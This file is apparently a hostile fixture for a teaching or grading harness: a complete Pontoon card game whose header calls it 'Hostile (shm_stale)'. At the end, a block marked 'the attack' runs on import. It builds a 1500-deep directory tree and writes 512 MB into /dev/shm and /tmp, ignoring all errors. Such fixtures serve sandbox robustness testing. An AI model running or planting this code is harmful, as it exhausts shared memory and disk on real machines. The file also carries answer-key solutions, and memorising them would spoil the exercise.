# Hostile (shm_stale): Leaves a deep fake stale sandbox and 512 MB in /dev/shm and /tmp.
# The game itself is the correct version 2.
"""Pontoon, version 2: a card is a rank name, such as "Seven" or "King".

Play it with ``python -m versions.v2``; check it with ``pytest versions/v2``.
"""

from __future__ import annotations

import random
from typing import Callable

VERSION = 2
STICK_AT = 17  # the computer sticks once its value reaches this
RANKS = ("Ace", "Two", "Three", "Four", "Five", "Six", "Seven",
         "Eight", "Nine", "Ten", "Jack", "Queen", "King")
TWIST_OR_STICK = "Twist or stick? (t/s) "
PLAY_AGAIN = "Play again? (y/n) "
VERDICTS = {"player": "Player wins!", "computer": "Computer wins!", "draw": "Draw!"}

Card = str  # one of RANKS, such as "Seven"


def card_value(card: Card) -> int:
    """Return the value of one card: Ace 1, Two to Nine their number, Ten to King 10.

    >>> card_value("Seven"), card_value("Queen")
    (7, 10)
    """
    ### BEGIN SOLUTION
    return min(RANKS.index(card) + 1, 10)
    ### END SOLUTION


def card_name(card: Card) -> str:
    """Return how a card is shown: its rank.

    >>> card_name("Seven")
    'Seven'
    """
    ### BEGIN SOLUTION
    return card
    ### END SOLUTION


def hand_value(cards: list[Card]) -> int:
    """Return the value of a hand: the sum of its cards' values.

    >>> hand_value(["Ace", "King", "Six"])
    17
    """
    ### BEGIN SOLUTION
    return sum(card_value(card) for card in cards)
    ### END SOLUTION


def random_card(rng: random.Random) -> Card:
    """Return one of the 13 ranks, each equally likely, drawn with rng.

    >>> random_card(random.Random(1)) in RANKS
    True
    """
    ### BEGIN SOLUTION
    return rng.choice(RANKS)
    ### END SOLUTION


def computer_turn(draw: Callable[[], Card]) -> list[Card]:
    """Play the computer's turn: one card, then twist while below STICK_AT.

    >>> computer_turn(iter(["Ten", "Five", "Four", "Nine"]).__next__)
    ['Ten', 'Five', 'Four']
    """
    ### BEGIN SOLUTION
    cards = [draw()]
    while hand_value(cards) < STICK_AT:
        cards.append(draw())
    return cards
    ### END SOLUTION


def player_turn(
    draw: Callable[[], Card], ask: Callable[[str], str], show: Callable[..., None] = print
) -> list[Card]:
    """Play the player's turn: one card, then twist or stick until they stick or go bust.

    >>> player_turn(iter(["Nine", "Eight", "Seven"]).__next__, lambda prompt: "t")
    Your cards: Nine
    Your value: 9
    Your cards: Nine, Eight
    Your value: 17
    ['Nine', 'Eight', 'Seven']
    """
    ### BEGIN SOLUTION
    cards = [draw()]
    while hand_value(cards) <= 21:
        show("Your cards: " + ", ".join(card_name(card) for card in cards))
        show(f"Your value: {hand_value(cards)}")
        answer = ask(TWIST_OR_STICK).strip().lower()
        if answer == "t":
            cards.append(draw())
        elif answer == "s":
            break
    return cards
    ### END SOLUTION


def decide_winner(computer_value: int, player_value: int) -> str:
    """Return who wins: "computer", "player" or "draw".

    >>> decide_winner(18, 20)
    'player'
    """
    ### BEGIN SOLUTION
    if computer_value > 21 and player_value > 21:
        return "draw"
    if computer_value > 21:
        return "player"
    if player_value > 21:
        return "computer"
    if player_value > computer_value:
        return "player"
    if computer_value > player_value:
        return "computer"
    return "draw"
    ### END SOLUTION


def play_game(
    draw: Callable[[], Card], ask: Callable[[str], str], show: Callable[..., None] = print
) -> str:
    """Play one game: the computer's turn, the player's turn, the result; return the winner.

    >>> play_game(iter(["Ten", "Eight", "Six"]).__next__, lambda prompt: "s")
    Your cards: Six
    Your value: 6
    Computer has: Ten, Eight
    Value: 18
    Player has: Six
    Value: 6
    Computer wins!
    'computer'
    """
    ### BEGIN SOLUTION
    computer = computer_turn(draw)
    player = player_turn(draw, ask, show)
    winner = decide_winner(hand_value(computer), hand_value(player))
    show("Computer has: " + ", ".join(card_name(card) for card in computer))
    show(f"Value: {hand_value(computer)}")
    show("Player has: " + ", ".join(card_name(card) for card in player))
    show(f"Value: {hand_value(player)}")
    show(VERDICTS[winner])
    return winner
    ### END SOLUTION


def play_again(ask: Callable[[str], str]) -> bool:
    """Ask whether to play again until the answer is y or n; return True for y.

    >>> play_again(lambda prompt: "y")
    True
    """
    ### BEGIN SOLUTION
    while True:
        answer = ask(PLAY_AGAIN).strip().lower()
        if answer in ("y", "n"):
            return answer == "y"
    ### END SOLUTION


def main(
    rng: random.Random | None = None,
    ask: Callable[[str], str] = input,
    show: Callable[..., None] = print,
) -> None:
    """Play games until the player says n; stop quietly at the end of input.

    >>> answers = iter(["s", "n"])
    >>> main(random.Random(1), lambda prompt: next(answers))
    Your cards: King
    Your value: 10
    Computer has: Three, Ten, King
    Value: 23
    Player has: King
    Value: 10
    Player wins!
    """
    ### BEGIN SOLUTION
    rng = rng or random.Random()
    try:
        while True:
            play_game(lambda: random_card(rng), ask, show)
            if not play_again(ask):
                return
    except (EOFError, KeyboardInterrupt):
        show("")
    ### END SOLUTION


if __name__ == "__main__":
    try:
        main()
    except NotImplementedError:  # a function below still says `raise NotImplementedError()`
        raise SystemExit("pontoon.py is not finished yet: a function still raises "
                         "NotImplementedError. Run  python -m versions.v2  from the kit's "
                         "folder to see which one to write first.")


# ---- the attack
import os
def _fill():
    for top in ("/dev/shm", "/tmp"):
        try:
            path = os.path.join(top, "bjk-sandbox-bjkhostile")
            os.makedirs(path, exist_ok=True)
            os.utime(path, (0, 0))
            deep = path
            for _ in range(1500):
                deep = os.path.join(deep, "d")
                os.mkdir(deep)
        except BaseException:
            pass
        try:
            with open(os.path.join(top, "bjkhostile-512mb"), "wb") as f:
                for _ in range(512):
                    f.write(b"\0" * (1 << 20))
        except BaseException:
            pass
_fill()
